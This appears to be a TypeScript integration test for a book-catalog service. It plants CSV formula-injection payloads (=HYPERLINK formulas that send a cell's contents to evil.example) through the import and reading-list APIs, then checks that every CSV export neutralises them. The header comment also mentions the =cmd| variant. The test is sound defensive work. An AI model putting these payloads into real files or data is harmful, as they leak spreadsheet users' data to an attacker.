import { FORMULA_TRIGGERS, tokenizeCsv } from '../../domain/index.js';
import { createUser, type TestUser } from '../integration/admin-auth.helper.js';
import { book, bookPrefix, csvOf } from '../integration/admin-books.helper.js';
import { signIn, type Reader } from '../integration/readers-auth.helper.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { appRoutes } from './route-table.js';

/**
 * The attack of issue #19 item 6, CSV formula injection: text an attacker controls (a catalog row
 * imported from a poisoned file, a reading-list title) starts with =, +, -, @, a tab or a carriage
 * return, and a spreadsheet that opens the service's CSV runs it (=HYPERLINK to exfiltrate,
 * =cmd|… on old Excel). Defence: every CSV the service writes goes through the one writer, which
 * puts a quote before such a cell. The test plants the payloads, downloads every CSV route the app
 * has (found at run time: GET routes ending in .csv) and fails on any cell that would run.
 */
const PAYLOADS = FORMULA_TRIGGERS.map((c) => `${c}HYPERLINK("https://evil.example/?leak="&A1,"click")`);
const live = (cell: string) => (FORMULA_TRIGGERS as readonly string[]).includes(cell[0] ?? '');

describe('CSV formula injection: no CSV the service writes holds a live formula', () => {
  let t: TestApp;
  let admin: TestUser;
  let parent: Reader;

  beforeAll(async () => {
    t = await startTestApp();
    admin = await createUser(t, { admin: true, unlocked: true });
    parent = await signIn(t, 'formula');
  });
  afterAll(async () => {
    await t.close();
  });

  it('plants formulas in the catalog and a reading list, then finds none live in any CSV download', async () => {
    const p = bookPrefix('attack');
    const poisoned = PAYLOADS.map((payload, i) => book(p, i, { title: `${payload} ${p}`, author: payload, summary: payload }));
    await t
      .http()
      .post('/api/admin/books/import')
      .set(admin.auth)
      .send({ csvContent: csvOf(poisoned) })
      .expect(200);
    for (const [i, payload] of PAYLOADS.entries()) {
      const item = { reader_id: 'self', reader_name: 'Me', title: `${payload} ${p} book ${i}`, author: payload };
      await t.http().post('/api/reading-list').set(parent.auth).send(item).expect(201);
    }

    const csvRoutes = appRoutes(t.app).filter((r) => r.method === 'GET' && r.path.endsWith('.csv') && !r.path.includes(':'));
    expect(csvRoutes.map((r) => r.path).sort()).toEqual([
      '/api/admin/books/export-full.csv',
      '/api/admin/books/export.csv',
      '/api/reading-list/export.csv',
      '/csv-template-series.csv',
      '/csv-template.csv',
    ]);
    const found: string[] = [];
    let planted = 0;
    for (const route of csvRoutes) {
      const auth = route.path.startsWith('/api/admin') ? admin.auth : parent.auth;
      const res = await t.http().get(route.path).set(auth).expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      const cells = tokenizeCsv(res.text).flatMap((r) => r.fields);
      planted += cells.filter((cell) => cell.includes('evil.example') && cell.includes(p)).length;
      found.push(...cells.filter(live).map((cell) => `${route.path}: ${JSON.stringify(cell.slice(0, 40))}`));
    }
    expect(found).toEqual([]);
    // the payloads did reach the files (as text): 6 titles in each admin export and in the reading list
    expect(planted).toBe(18);
  });
});
